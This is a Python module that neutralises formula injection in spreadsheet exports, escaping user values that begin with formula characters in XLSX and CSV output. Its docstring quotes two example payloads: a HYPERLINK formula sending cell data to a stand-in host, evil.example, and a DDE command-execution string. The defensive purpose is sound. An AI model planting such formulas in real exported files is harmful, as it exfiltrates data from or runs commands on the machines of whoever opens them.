"""The one rule for cells of every file staff, clients or partners open in a spreadsheet: XLSX and CSV exports,
wallet statements, the affiliate referrals CSV, lead import reports. User data never becomes a formula.

A value starting with `= + - @`, a tab, a carriage return or a line feed, or their full-width forms, can be run
as a formula by Excel, LibreOffice or Google Sheets (`=HYPERLINK("http://evil.example/?x="&A1)`,
`+1+cmd|' /C calc'!A0`). Plain numbers (`-12.50`, `+3`) are not formulas and are left as they are.

- XLSX (`xlsx_row`): such a value is written as a text cell with Excel's quote prefix, never a formula, so it
  shows as typed and stays text when the cell is edited.
- CSV (`csv_cell`, `SafeCsvWriter`): OWASP's rule, a leading apostrophe, which spreadsheets show as text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could run this text as a formula."""
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def csv_cell(value: Any) -> str:
    """A CSV cell that spreadsheets show as text, never run: OWASP's apostrophe before a formula-like value."""
    text = "" if value is None else str(value)
    return f"'{text}" if looks_like_formula(text) else text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell` (headers too: they may come from an upload)."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])


def xlsx_row(sheet: Any, values: Sequence[Any]) -> list[Any]:
    """A row for `sheet.append` (openpyxl write-only): formula-like text becomes a quoted text cell.

    openpyxl stores any string starting with `=` as a formula; this is the only way user text gets past it.
    """
    return [
        xlsx_text_cell(sheet, value) if isinstance(value, str) and looks_like_formula(value) else value
        for value in values
    ]


def xlsx_text_cell(sheet: Any, text: str) -> Any:
    """A write-only cell holding `text` as text, whatever it starts with (quote prefix when formula-like)."""
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    cell.quotePrefix = looks_like_formula(text)
    return cell
